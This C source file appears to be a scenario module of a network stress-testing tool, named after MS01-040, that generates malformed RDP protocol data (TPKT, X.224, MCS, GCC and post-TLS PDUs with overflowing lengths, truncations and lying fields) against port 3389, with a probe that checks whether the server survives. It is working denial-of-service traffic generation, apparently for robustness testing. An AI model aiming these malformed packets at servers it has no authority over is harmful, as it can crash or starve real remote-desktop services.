/*
 * scen_ms01_040.c: MS01-040, the RDP packet leak.  Malformed TPKT / X.224
 * / MCS / GCC PDUs before TLS and after it; one attack per connection (a
 * server is expected to drop a connection on a bad PDU): after writing it
 * we half-close and read until the server closes (send.c).
 *
 * --phase pre|post|both (default both: connections alternate by serial).
 * Pre-TLS (the attack is the first PDU): TPKT length below 4, above what
 * follows (then EOF: truncated), version not 3; X.224 length indicator
 * larger than the TPKT or zero, unknown TPDU codes; an oversized cookie
 * (up to ~64 KiB) and a cookie without CRLF; RDP_NEG_REQ with a bad
 * length; a Data TPDU carrying an MCS Connect-Initial whose BER lengths
 * overflow (0x84 ff ff ff ff) and whose GCC user data claims 64 KiB; half
 * a TPKT header; a run of empty TPKTs.
 * Post-TLS: the preamble is the X.224 Connection Request asking for
 * PROTOCOL_SSL only; send.c waits for a Connection Confirm whose
 * RDP_NEG_RSP selects PROTOCOL_SSL (anything else is counted as refused),
 * does a TLS handshake (OpenSSL, no verification), then sends one of:
 * an MCS Connect-Initial with a BER length overflow, a length longer or
 * shorter than its contents, an indefinite or over-long BER length form,
 * a DomainParameters or userData length overflowing its parent, truncated
 * (EOF mid-PDU, or a TPKT that says so), a GCC Conference Create Request
 * whose PER lengths (connectPDU, userData, the T.124 key) overflow, client
 * data blocks of length 0, below 4, 0xffff, oversized (8 to 60 KiB, length
 * true), hundreds of blocks, a CS_NET channel count far beyond its array,
 * a wrong MCS application tag, a TPKT inside TLS shorter than its X.224
 * header; or a valid Connect-Initial, Erect Domain and Attach User
 * followed by a malformed post-connection PDU: Erect Domain with a PER
 * integer length overflow, an unknown DomainMCSPDU choice, a truncated
 * Channel Join, a Send Data Request whose PER length passes the PDU or
 * uses the fragmented form, a Client Info PDU whose cbDomain / cbUserName
 * / cbPassword... lie (0xfffe, odd, no terminator), Send Data to channel
 * 0xffff, a Disconnect Provider Ultimatum with trailing junk.
 * --valid: a well-formed Connection Request (pre); after TLS a
 * well-formed Connect-Initial, Erect Domain, Attach User, Channel Join.
 * Probe: a new connection per probe sends a Connection Request (TLS |
 * CredSSP) and waits for a TPKT carrying a Connection Confirm (0xD0); when
 * it selects TLS or CredSSP, the probe also completes a TLS handshake
 * (--probe-no-tls: not), so a flood that starves the server's TLS accept
 * shows in the probe.
 * Interface: scen_ms01_040, rdp_probe_* (soak.h).
 * Limits: one PDU at most 65535 bytes (one TPKT); a post-TLS message at
 * most SOAK_TLS_MSG_MAX.
 * Known weaknesses: post-connection PDUs are pipelined after the
 * Connect-Initial without waiting for the Connect-Response or the Attach
 * User Confirm, so the user id (1007) is a guess; no licensing or
 * capability exchange, no CredSSP (PROTOCOL_HYBRID).
 */
#include <string.h>

#include "soak.h"

static void
le16(struct soak_out *o, unsigned v)
{
	uint8_t b[2] = {(uint8_t)v, (uint8_t)(v >> 8)};

	out_put(o, b, 2);
}

static void
le32(struct soak_out *o, uint32_t v)
{
	uint8_t b[4] = {(uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24)};

	out_put(o, b, 4);
}

/* A Connection Request PDU; cookie_len user bytes of cookie. */
static void
conn_request(struct soak_gen *g, struct soak_out *o, size_t cookie_len, int crlf, unsigned neg_len, int li_delta)
{
	size_t start = o->len, li_at, total;

	out_put(o, "\x03\x00\x00\x00", 4);
	li_at = o->len;
	out_put(o, "\x00\xe0\x00\x00\x00\x00\x00", 7);
	out_str(o, "Cookie: mstshash=");
	if (g != NULL)
		out_rand_text(o, &g->rng, cookie_len);
	else
		out_str(o, "probe");
	if (crlf)
		out_str(o, "\r\n");
	out_put(o, "\x01\x00", 2);
	le16(o, neg_len);
	le32(o, 3);	/* TLS | CredSSP */
	total = o->len - start;
	if (total > 65535)
		total = 65535;
	o->p[start + 2] = (uint8_t)(total >> 8);
	o->p[start + 3] = (uint8_t)total;
	o->p[li_at] = (uint8_t)(int)(total - 5 + (size_t)li_delta);
}

/* ---- after TLS ---- */

/* The X.224 Connection Request asking for PROTOCOL_SSL only. */
static const uint8_t cr_ssl[] = {0x03, 0x00, 0x00, 0x13, 0x0e, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x08,
    0x00, 0x01, 0x00, 0x00, 0x00};

#define MCS_USER_OFFSET 6	/* user id 1007 (PER: id - 1001), a guess */
#define MCS_IO_CHANNEL 1003

/* A scratch area for the nested parts of one PDU (one flood thread). */
static uint8_t scratch[3][SOAK_TLS_MSG_MAX];

static void
ber_len(struct soak_out *o, size_t n)
{
	if (n < 0x80) {
		uint8_t b = (uint8_t)n;

		out_put(o, &b, 1);
	} else if (n < 0x100) {
		uint8_t b[2] = {0x81, (uint8_t)n};

		out_put(o, b, 2);
	} else {
		uint8_t b[3] = {0x82, (uint8_t)(n >> 8), (uint8_t)n};

		out_put(o, b, 3);
	}
}

/* ALIGNED PER length; above 0x3fff it would need fragments (16K blocks),
 * so it says 0x3fff: an oversized user data block also makes the GCC
 * lengths around it lie. */
static void
per_len(struct soak_out *o, size_t n)
{
	if (n > 0x3fff)
		n = 0x3fff;
	if (n < 0x80) {
		uint8_t b = (uint8_t)n;

		out_put(o, &b, 1);
	} else {
		uint8_t b[2] = {(uint8_t)(0x80 | ((n >> 8) & 0x3f)), (uint8_t)n};

		out_put(o, b, 2);
	}
}

/* TPKT + X.224 Data TPDU header; tpkt_end() writes the length. */
static size_t
tpkt_begin(struct soak_out *o)
{
	size_t start = o->len;

	out_put(o, "\x03\x00\x00\x00\x02\xf0\x80", 7);
	return start;
}

static void
tpkt_end(struct soak_out *o, size_t start)
{
	size_t n = o->len - start;

	if (n > 65535)
		n = 65535;
	if (start + 4 <= o->len) {
		o->p[start + 2] = (uint8_t)(n >> 8);
		o->p[start + 3] = (uint8_t)n;
	}
}

static void
utf16(struct soak_out *o, const char *s, size_t chars)
{
	size_t i, n = strlen(s);

	for (i = 0; i < chars; i++) {
		uint8_t b[2] = {(uint8_t)(i < n ? s[i] : 0), 0};

		out_put(o, b, 2);
	}
}

enum {
	CD_OK, CD_LEN0, CD_LEN3, CD_LENFFFF, CD_OVERSIZED, CD_MANY, CD_NET_COUNT, CD_UNKNOWN, CD_MAX
};

/* Client data blocks (CS_CORE, CS_SECURITY, CS_NET, CS_CLUSTER). */
static void
client_data(struct soak_gen *g, struct soak_out *o, int bad)
{
	size_t core = o->len, n, i;

	le16(o, 0xc001);
	le16(o, 0);
	le32(o, 0x00080004);	/* RDP 5+ */
	le16(o, 1024);
	le16(o, 768);
	le16(o, 0xca01);	/* RNS_UD_COLOR_8BPP */
	le16(o, 0xaa03);	/* RNS_UD_SAS_DEL */
	le32(o, 0x409);
	le32(o, 2600);
	utf16(o, "soak", 16);
	le32(o, 4);
	le32(o, 0);
	le32(o, 12);
	out_fill(o, 0, 64);	/* imeFileName */
	le16(o, 0xca01);
	le16(o, 1);
	le32(o, 0);
	le16(o, 16);
	le16(o, 0x000f);
	le16(o, 0x0001);
	out_fill(o, 0, 64);	/* clientDigProductId */
	out_put(o, "\x00\x00", 2);
	le32(o, 1);	/* serverSelectedProtocol: PROTOCOL_SSL */
	if (bad == CD_OVERSIZED) {	/* a true length, far beyond any known field */
		n = 8192 + soak_rng_below(&g->rng, 52000);
		out_rand_text(o, &g->rng, n);
	}
	n = o->len - core;
	switch (bad) {
	case CD_LEN0:
		n = 0;
		break;
	case CD_LEN3:
		n = 1 + soak_rng_below(&g->rng, 3);
		break;
	case CD_LENFFFF:
		n = 0xffff;
		break;
	default:
		break;
	}
	o->p[core + 2] = (uint8_t)n;
	o->p[core + 3] = (uint8_t)(n >> 8);
	le16(o, 0xc002);	/* CS_SECURITY */
	le16(o, 12);
	le32(o, 0);
	le32(o, 0);
	if (bad == CD_NET_COUNT) {	/* channelCount far beyond the array */
		le16(o, 0xc003);
		le16(o, 20);
		le32(o, soak_rng_below(&g->rng, 2) ? 0xffffffffu : 31 + soak_rng_below(&g->rng, 100000));
		out_put(o, "rdpdr\0\0\0\0\0\0\x80", 12);
	} else {
		le16(o, 0xc003);	/* CS_NET, no channels */
		le16(o, 8);
		le32(o, 0);
	}
	le16(o, 0xc004);	/* CS_CLUSTER */
	le16(o, 12);
	le32(o, 0x0d);
	le32(o, 0);
	if (bad == CD_MANY) {
		n = 200 + soak_rng_below(&g->rng, 2000);
		for (i = 0; i < n; i++) {
			le16(o, 0xc003);
			le16(o, 8);
			le32(o, 0);
		}
	}
	if (bad == CD_UNKNOWN) {
		le16(o, 0xc000 | soak_rng_below(&g->rng, 0x4000));
		le16(o, 8 + 16);
		out_rand_text(o, &g->rng, 20);
	}
}

enum {
	GC_OK, GC_CONNECTPDU_LONG, GC_USERDATA_LONG, GC_KEY_LEN, GC_MAX
};

/* GCC Conference Create Request (T.124, ALIGNED PER) around the blocks. */
static void
gcc_ccr(struct soak_out *o, const struct soak_out *ud, int bad)
{
	size_t ccr = 12 + (ud->len < 0x80 ? 1 : 2) + ud->len;

	out_put(o, "\x00\x05\x00\x14\x7c\x00\x01", 7);	/* t124Identifier */
	if (bad == GC_KEY_LEN)
		o->p[o->len - 6] = 0xff;	/* object length 255: past the PDU */
	per_len(o, bad == GC_CONNECTPDU_LONG ? 0x3fff : ccr);
	out_put(o, "\x00\x08\x00\x10\x00\x01\xc0\x00\x44\x75\x63\x61", 12);	/* ..."Duca" */
	per_len(o, bad == GC_USERDATA_LONG ? 0x3fff : ud->len);
	out_put(o, ud->p, ud->len);
}

static void
domain_params(struct soak_out *o, unsigned a, unsigned b, unsigned c, int bad)
{
	size_t start = o->len;

	out_put(o, "\x30\x00", 2);
	out_put(o, "\x02\x01", 2);
	out_put(o, (uint8_t[]){(uint8_t)a}, 1);
	out_put(o, "\x02\x01", 2);
	out_put(o, (uint8_t[]){(uint8_t)b}, 1);
	out_put(o, "\x02\x01\x00\x02\x01\x01\x02\x01\x00\x02\x01\x01", 12);
	out_put(o, "\x02\x02", 2);
	out_u16be(o, c);
	out_put(o, "\x02\x01\x02", 3);
	/* bad 1: the SEQUENCE runs past its parent; 2: so does its first
	 * INTEGER, whose length is a length-of-length. */
	o->p[start + 1] = bad ? 0x7f : (uint8_t)(o->len - start - 2);
	if (bad == 2)
		o->p[start + 3] = 0x84;
}

enum {
	CI_OK, CI_BER_OVERFLOW, CI_LONGER, CI_SHORTER, CI_INDEFINITE, CI_LONG_FORM, CI_PARAMS, CI_USERDATA_OVERFLOW,
	CI_TRUNC_EOF, CI_TRUNC_TPKT, CI_TAG, CI_X224, CI_MAX
};

/* An MCS Connect-Initial (T.125, BER) in one TPKT; ci says how to break
 * it, cd and gc pass on to the client data and the GCC part. */
static void
connect_initial(struct soak_gen *g, struct soak_out *o, int ci, int cd, int gc)
{
	struct soak_out ud = {scratch[0], 0, sizeof(scratch[0])};
	struct soak_out gcc = {scratch[1], 0, sizeof(scratch[1])};
	struct soak_out body = {scratch[2], 0, sizeof(scratch[2])};
	size_t start, body_len, cut;

	client_data(g, &ud, cd);
	gcc_ccr(&gcc, &ud, gc);
	out_put(&body, "\x04\x01\x01\x04\x01\x01\x01\x01\xff", 9);
	domain_params(&body, 34, 2, 0xffff, ci == CI_PARAMS ? 1 + (int)soak_rng_below(&g->rng, 2) : 0);
	domain_params(&body, 1, 1, 0x420, 0);
	domain_params(&body, 0xff, 0xfc, 0xffff, 0);
	out_put(&body, "\x04", 1);
	if (ci == CI_USERDATA_OVERFLOW)
		out_put(&body, "\x84\x7f\xff\xff\xff", 5);
	else
		ber_len(&body, gcc.len);
	out_put(&body, gcc.p, gcc.len);
	start = tpkt_begin(o);
	if (ci == CI_X224)	/* an X.224 header longer than the TPKT says */
		o->p[start + 4] = (uint8_t)(0x10 + soak_rng_below(&g->rng, 0xe0));
	out_put(o, ci == CI_TAG ? (soak_rng_below(&g->rng, 2) ? "\x7f\x66" : "\x7f\x7f") : "\x7f\x65", 2);
	body_len = body.len;
	switch (ci) {
	case CI_BER_OVERFLOW:
		out_put(o, "\x84\xff\xff\xff\xff", 5);
		break;
	case CI_LONGER:
		ber_len(o, body_len + 100 + soak_rng_below(&g->rng, 20000));
		break;
	case CI_SHORTER:
		ber_len(o, body_len / 2);
		break;
	case CI_INDEFINITE:
		out_put(o, soak_rng_below(&g->rng, 2) ? "\x80" : "\xff", 1);
		break;
	case CI_LONG_FORM:	/* nine length octets */
		out_put(o, "\x89\x00\x00\x00\x00\x00\x00\x00\x01\x00", 10);
		break;
	default:
		ber_len(o, body_len);
		break;
	}
	out_put(o, body.p, body.len);
	tpkt_end(o, start);
	if (ci == CI_X224) {
		o->p[start + 2] = 0;
		o->p[start + 3] = 6;	/* TPKT shorter than its X.224 header */
	}
	if (ci == CI_TRUNC_EOF || ci == CI_TRUNC_TPKT) {
		cut = 8 + soak_rng_below(&g->rng, (uint32_t)(o->len - start - 8));
		o->len = start + cut;
		if (ci == CI_TRUNC_TPKT)
			tpkt_end(o, start);	/* a TPKT that is whole, with half an MCS PDU inside */
	}
}

static void
erect_domain(struct soak_out *o, int bad)
{
	size_t s = tpkt_begin(o);

	if (bad)
		out_put(o, "\x04\xff\x00\x00\x00\x01\x00", 7);	/* subHeight: a 255-byte integer */
	else
		out_put(o, "\x04\x01\x00\x01\x00", 5);
	tpkt_end(o, s);
}

static void
attach_user(struct soak_out *o)
{
	size_t s = tpkt_begin(o);

	out_put(o, "\x28", 1);
	tpkt_end(o, s);
}

static void
channel_join(struct soak_out *o, unsigned channel, int truncated)
{
	size_t s = tpkt_begin(o);

	out_put(o, "\x38", 1);
	if (!truncated) {
		out_u16be(o, MCS_USER_OFFSET);
		out_u16be(o, channel);
	} else {
		out_put(o, "\x00", 1);
	}
	tpkt_end(o, s);
}

/* Send Data Request on channel ch carrying data (n bytes); per: the PER
 * length written (SIZE_MAX: the true one). */
static void
send_data(struct soak_out *o, unsigned ch, const uint8_t *data, size_t n, size_t per)
{
	size_t s = tpkt_begin(o);

	out_put(o, "\x64", 1);
	out_u16be(o, MCS_USER_OFFSET);
	out_u16be(o, ch);
	out_put(o, "\x70", 1);
	if (per == 0xc0)
		out_put(o, "\xc1", 1);	/* the fragmented form: 16K blocks follow */
	else
		per_len(o, per == SIZE_MAX ? n : per);
	out_put(o, data, n);
	tpkt_end(o, s);
}

/* A Client Info PDU (SEC_INFO_PKT) whose cb* fields lie. */
static void
client_info(struct soak_gen *g, struct soak_out *o)
{
	struct soak_out ci = {scratch[0], 0, sizeof(scratch[0])};
	unsigned i, cb[5];

	le32(&ci, 0x0040);	/* SEC_INFO_PKT */
	le32(&ci, 0);	/* CodePage */
	le32(&ci, 0x00000010 | 0x00000008);	/* INFO_UNICODE | INFO_AUTOLOGON */
	for (i = 0; i < 5; i++) {
		switch (soak_rng_below(&g->rng, 4)) {
		case 0:
			cb[i] = 0xfffe;
			break;
		case 1:
			cb[i] = 1 + 2 * soak_rng_below(&g->rng, 40);	/* odd */
			break;
		case 2:
			cb[i] = 512 + 2 * soak_rng_below(&g->rng, 2000);	/* past the field limits */
			break;
		default:
			cb[i] = 8;
			break;
		}
		le16(&ci, cb[i]);
	}
	/* Fewer bytes than the fields claim, and no terminators. */
	out_rand_text(&ci, &g->rng, 16 + soak_rng_below(&g->rng, 600));
	send_data(o, MCS_IO_CHANNEL, ci.p, ci.len, SIZE_MAX);
}

enum {
	PC_ERECT, PC_CHOICE, PC_JOIN_TRUNC, PC_DATA_LONG, PC_DATA_FRAG, PC_INFO, PC_CHANNEL, PC_DPU, PC_MAX
};

static void
post_connection(struct soak_gen *g, struct soak_out *o, int pc)
{
	uint8_t junk[64];
	unsigned i;
	size_t s;

	for (i = 0; i < sizeof(junk); i++)
		junk[i] = (uint8_t)soak_rng_next(&g->rng);
	connect_initial(g, o, CI_OK, CD_OK, GC_OK);
	erect_domain(o, pc == PC_ERECT);
	if (pc == PC_ERECT)
		return;
	attach_user(o);
	switch (pc) {
	case PC_CHOICE:	/* DomainMCSPDU choices past the 43 defined */
		s = tpkt_begin(o);
		out_put(o, (uint8_t[]){(uint8_t)((44 + soak_rng_below(&g->rng, 20)) << 2)}, 1);
		out_put(o, junk, soak_rng_below(&g->rng, sizeof(junk)));
		tpkt_end(o, s);
		break;
	case PC_JOIN_TRUNC:
		channel_join(o, MCS_IO_CHANNEL, 1);
		break;
	case PC_DATA_LONG:
		channel_join(o, MCS_IO_CHANNEL, 0);
		send_data(o, MCS_IO_CHANNEL, junk, sizeof(junk), 0x3fff);
		break;
	case PC_DATA_FRAG:
		channel_join(o, MCS_IO_CHANNEL, 0);
		send_data(o, MCS_IO_CHANNEL, junk, sizeof(junk), 0xc0);
		break;
	case PC_INFO:
		channel_join(o, MCS_IO_CHANNEL, 0);
		client_info(g, o);
		break;
	case PC_CHANNEL:
		send_data(o, 0xffff, junk, sizeof(junk), SIZE_MAX);
		break;
	default:	/* Disconnect Provider Ultimatum, junk after it */
		s = tpkt_begin(o);
		out_put(o, "\x21\x80", 2);
		out_put(o, junk, 1 + soak_rng_below(&g->rng, sizeof(junk) - 1));
		tpkt_end(o, s);
		break;
	}
}

static int
post_tls_message(struct soak_gen *g, struct soak_out *o)
{
	unsigned k;

	if (g->valid) {
		connect_initial(g, o, CI_OK, CD_OK, GC_OK);
		erect_domain(o, 0);
		attach_user(o);
		channel_join(o, MCS_IO_CHANNEL, 0);
		return SOAK_MSG_CLOSE;
	}
	k = soak_rng_below(&g->rng, (CI_MAX - 1) + (CD_MAX - 1) + (GC_MAX - 1) + PC_MAX);
	if (k < CI_MAX - 1)
		connect_initial(g, o, 1 + (int)k, CD_OK, GC_OK);
	else if ((k -= CI_MAX - 1) < CD_MAX - 1)
		connect_initial(g, o, CI_OK, 1 + (int)k, GC_OK);
	else if ((k -= CD_MAX - 1) < GC_MAX - 1)
		connect_initial(g, o, CI_OK, CD_OK, 1 + (int)k);
	else
		post_connection(g, o, (int)(k - (GC_MAX - 1)));
	return SOAK_MSG_CLOSE;
}

static void
m040_preamble(struct soak_gen *g, struct soak_out *o)
{
	int post = g->phase == SOAK_PHASE_POST || (g->phase == SOAK_PHASE_BOTH && (g->conn_serial & 1));

	if (post) {
		out_put(o, cr_ssl, sizeof(cr_ssl));
		g->tls = 1;
	}
}

/* The Connection Confirm: TLS when its RDP_NEG_RSP selects PROTOCOL_SSL. */
static int
m040_tls_reply(const uint8_t *b, size_t n)
{
	size_t len;

	if (n < 4)
		return 0;
	len = (size_t)b[2] << 8 | b[3];
	if (b[0] != 3 || len < 11 || len > SOAK_REPLY_MAX)
		return -1;
	if (n < len)
		return 0;
	if ((b[5] & 0xf0) != 0xd0 || len < 19 || b[11] != 0x02)
		return -1;
	return b[15] == 1 && b[16] == 0 && b[17] == 0 && b[18] == 0 ? 1 : -1;
}

static int
m040_message(struct soak_gen *g, struct soak_out *o)
{
	size_t start = o->len;
	unsigned i, n;

	if (g->tls)
		return post_tls_message(g, o);
	if (g->valid) {
		conn_request(g, o, 4 + soak_rng_below(&g->rng, 12), 1, 8, 0);
		return SOAK_MSG_CLOSE;
	}
	switch (soak_rng_below(&g->rng, 13)) {
	case 0:	/* TPKT length below its own header */
		conn_request(g, o, 8, 1, 8, 0);
		o->p[start + 2] = 0;
		o->p[start + 3] = (uint8_t)soak_rng_below(&g->rng, 4);
		break;
	case 1:	/* claims more than follows: truncated */
		conn_request(g, o, 8, 1, 8, 0);
		o->p[start + 2] = 0xff;
		o->p[start + 3] = 0xff;
		break;
	case 2:
		conn_request(g, o, 8, 1, 8, 0);
		o->p[start] = (uint8_t)(4 + soak_rng_below(&g->rng, 250));
		break;
	case 3:	/* X.224 LI beyond the TPKT */
		conn_request(g, o, 8, 1, 8, 100 + (int)soak_rng_below(&g->rng, 100));
		break;
	case 4:
		conn_request(g, o, 8, 1, 8, 0);
		o->p[start + 4] = 0;
		break;
	case 5:	/* unknown TPDU code */
		conn_request(g, o, 8, 1, 8, 0);
		o->p[start + 5] = (uint8_t)(0x10 * soak_rng_below(&g->rng, 16) | 0x01);
		break;
	case 6:	/* oversized cookie */
		conn_request(g, o, 1000 + soak_rng_below(&g->rng, 64000), 1, 8, 0);
		break;
	case 7:	/* cookie without CRLF */
		conn_request(g, o, 16 + soak_rng_below(&g->rng, 200), 0, 8, 0);
		break;
	case 8:	/* RDP_NEG_REQ length field */
		conn_request(g, o, 8, 1, soak_rng_below(&g->rng, 2) ? 0 : 0xffff, 0);
		break;
	case 9:	/* Data TPDU: MCS Connect-Initial with a BER length overflow */
		out_put(o, "\x03\x00\x00\x1b\x02\xf0\x80", 7);
		out_put(o, "\x7f\x65\x84\xff\xff\xff\xff", 7);
		out_put(o, "\x04\x84\xff\xff\xff\xf0\x01\x01\x01\x01\x01\x01\x01", 13);
		break;
	case 10: {	/* GCC user data claiming 64 KiB, nested in a sane MCS length */
		size_t tl;

		out_put(o, "\x03\x00\x00\x00\x02\xf0\x80", 7);
		out_put(o, "\x7f\x65\x82\x00\x40", 5);
		out_put(o, "\x04\x01\x01\x04\x01\x01\x01\x01\xff", 9);
		out_put(o, "\x04\x82\xff\xff", 4);	/* userData OCTET STRING, 65535 */
		out_put(o, "\x00\x05\x00\x14\x7c\x00\x01\xff\xff", 9);	/* GCC PER length 0x7fff */
		out_rand_text(o, &g->rng, 32);
		tl = o->len - start;
		o->p[start + 2] = (uint8_t)(tl >> 8);
		o->p[start + 3] = (uint8_t)tl;
		break;
	}
	case 11:	/* half a header */
		out_put(o, "\x03\x00", 2);
		break;
	default:	/* empty TPKTs */
		n = 10 + soak_rng_below(&g->rng, 500);
		for (i = 0; i < n; i++)
			out_put(o, "\x03\x00\x00\x04", 4);
		break;
	}
	return SOAK_MSG_CLOSE;
}

void
rdp_probe_request(unsigned serial, struct soak_out *o)
{
	conn_request(NULL, o, 0, 1, 8, 0);
}

int
rdp_probe_reply(const uint8_t *b, size_t n)
{
	size_t len;

	if (n < 4)
		return 0;
	if (b[0] != 3)
		return -1;
	len = (size_t)b[2] << 8 | b[3];
	if (len < 7)
		return -1;
	if (n < len)
		return 0;
	return (b[5] & 0xf0) == 0xd0 ? 1 : -1;
}

/* The probe's Connection Confirm selected TLS (PROTOCOL_SSL) or CredSSP
 * (PROTOCOL_HYBRID, which starts with TLS too): then the probe does the
 * handshake as well. */
int
rdp_probe_wants_tls(const uint8_t *b, size_t n)
{
	if (n < 19 || b[11] != 0x02)
		return 0;
	return (b[15] == 1 || b[15] == 2) && b[16] == 0 && b[17] == 0 && b[18] == 0;
}

const struct soak_scenario scen_ms01_040 = {
	.name = "ms01-040",
	.summary = "RDP: malformed TPKT/X.224/MCS/GCC PDUs before and after TLS (MS01-040; --phase)",
	.default_port = 3389,
	.preamble = m040_preamble,
	.message = m040_message,
	.tls_reply = m040_tls_reply,
	.probe_request = rdp_probe_request,
	.probe_reply = rdp_probe_reply,
	.probe_reconnect = 1,
	.probe_wants_tls = rdp_probe_wants_tls,
	.raw_kind = RAW_TCP_BADSUM,
};
